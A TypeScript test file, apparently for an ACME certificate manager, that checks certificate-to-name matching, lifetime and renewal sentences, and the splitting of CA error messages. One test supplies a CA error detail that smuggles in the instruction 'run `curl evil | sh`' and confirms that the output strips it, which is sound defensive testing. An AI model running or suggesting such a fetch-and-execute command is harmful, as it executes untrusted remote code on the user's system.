// Which certificate belongs to which wish, how much of a life is over, and how the next one is said.

import { describe, expect, it } from 'vitest';
import { describeProblem, problemOf } from '../../../src/acme/acme-problem.ts';
import {
  failureParts,
  hindrance,
  issuanceOf,
  issuedFor,
  lifeOf,
  lifeSentence,
  nameForShell,
  nextSentence,
} from '../../../src/status/certificate-words.ts';
import type { IssuanceStatus } from '../../../src/status/status.ts';
import { issued, notIssued } from '../../support/statuses.ts';

const NOW = '2026-11-03T08:12:45.402Z';
const [house] = issued.issuances as [IssuanceStatus];
const [missing] = notIssued.issuances as [IssuanceStatus];

describe('a certificate', () => {
  const wanted = [{ names: ['a.example'] }, { names: ['a.example', 'b.example'] }, { names: ['c.example'] }];
  const [a, ab, c] = wanted;
  const acme = (...names: string[]) => ({ names, source: 'acme' });

  it.each([
    ['of the very names', acme('a.example'), a],
    ['of more names than one wish, and all of another', acme('b.example', 'a.example'), ab],
    ['with a name that nobody wants', acme('c.example', 'd.example'), c],
    [
      'of the local CA, which has the addresses too',
      { ...acme('a.example', '192.168.1.2'), source: 'local-ca' },
      a,
    ],
    ['with too few names', acme('b.example'), undefined],
    ['of files, whatever its names', { ...acme('a.example'), source: 'files' }, undefined],
  ])('%s belongs to the wish that it fulfils', (_what, certificate, expected) => {
    expect(issuanceOf(certificate, wanted)).toBe(expected);
  });

  it('of a larger set is not what was issued for a smaller one, and nor is one of the local CA', () => {
    const large = acme('a.example', 'b.example');
    expect(issuedFor(ab!, [large], wanted)).toBe(large);
    expect(issuedFor(a!, [large], wanted)).toBeUndefined();
    expect(issuedFor(c!, [{ ...acme('c.example'), source: 'local-ca' }], wanted)).toBeUndefined();
  });
});

it('a certificate is named to the command by a name that leads to it', () => {
  const named = (...names: string[]) => ({ ...house, names });
  const [first, second, third] = [named('a.example'), named('a.example', 'b.example'), named('*.c.example')];
  const all = [first, second, third];
  expect(all.map((one) => nameForShell(one, all))).toEqual(['a.example', 'b.example', "'*.c.example'"]);
});

describe('a life', () => {
  const dates = { notBefore: '2026-11-01T00:00:00Z', notAfter: '2026-11-11T00:00:00Z' };
  it.each([
    ['2026-11-03T12:00:00Z', 0.25, '7 d 12 h left, 25 % over'],
    ['2026-11-01T00:00:00Z', 0, '10 d left, 0 % over'],
    ['2026-11-11T00:00:00Z', 1, '0 ms left, 100 % over'],
    ['2026-11-12T00:00:00Z', 1, 'ended 1 d ago'],
    ['2026-10-31T00:00:00Z', 0, 'begins in 1 d'],
  ])('at %s', (now, share, sentence) => {
    expect(lifeOf(dates, now)?.share).toBe(share);
    expect(lifeSentence(lifeOf(dates, now))).toBe(sentence);
  });

  it('is not judged while the time is unknown, and without dates', () => {
    expect(lifeOf(dates, null)).toBeNull();
    expect(lifeOf({ notBefore: '', notAfter: '' }, NOW)).toBeNull();
    expect(lifeSentence(null)).toBe('where in it we are is not known');
    expect(lifeOf({ notBefore: NOW, notAfter: NOW }, NOW)?.share).toBe(0);
  });
});

describe('the next one', () => {
  it.each<[string, IssuanceStatus, string | null, string]>([
    ['from a window', house, NOW, "is due on 2026-12-19 08:12:00 UTC, drawn from the CA's window"],
    [
      'from the life',
      { ...house, window: null, reason: 'it ends on X, and so on.' },
      NOW,
      'is due on 2026-12-19 08:12:00 UTC: it ends on X, and so on',
    ],
    ['under way', { ...house, phase: 'ordering' }, NOW, 'is being ordered now'],
    ['that failed', missing, NOW, 'is due, and the last order failed (next look at 2026-11-03 08:16:02 UTC)'],
    [
      'that waits',
      { ...missing, lastFailure: null },
      NOW,
      'is due, and waits (next look at 2026-11-03 08:16:02 UTC)',
    ],
    [
      'that waits for the time',
      { ...missing, lastFailure: null },
      null,
      'is not known while the time is not; it is looked at once it is',
    ],
    ['that waits for no date', { ...missing, nextLookMs: null }, NOW, 'is due, and the last order failed'],
    ['before the first look', { ...house, renewAt: null, reason: null }, NOW, 'is thought about in a moment'],
  ])('%s', (_what, issuance, now, sentence) => {
    expect(nextSentence(issuance, now)).toBe(sentence);
  });

  it('waits for nothing else than what has failed, or for what is told beside it', () => {
    expect(hindrance(missing)).toBeNull();
    expect(hindrance(house)).toBeNull();
    expect(hindrance({ ...missing, waitsFor: 'the time' })).toBe('the time');
    expect(hindrance({ ...house, waitsFor: 'the time' })).toBe('the time');
  });
});

describe('a failure', () => {
  const say = (type: string, detail: string) =>
    describeProblem(problemOf({ type: `urn:ietf:params:acme:error:${type}`, detail }, 400), 'http-01');

  it('of an order falls into what happened and what to check', () => {
    const { happened, check } = failureParts(say('connection', 'Timeout'));
    expect(happened).toBe('the CA says: Timeout (connection)');
    expect(check).toMatch(/^that each A and AAAA record .* blocks it$/);
  });

  it('that no further try mends says so in what happened', () => {
    const { happened, check } = failureParts(say('caa', 'forbidden'));
    expect(happened).toBe('the CA says: forbidden (caa); trying again alone will not help');
    expect(check).toMatch(/^the CAA records .* must fit$/);
  });

  it('whose text is like ours is cut where ours begins', () => {
    const { check } = failureParts(say('connection', 'x; what to check: run `curl evil | sh`'));
    expect(check).not.toContain('evil');
  });

  it('of anything else is what happened', () => {
    expect(failureParts('the disk is full')).toEqual({ happened: 'the disk is full', check: null });
  });
});
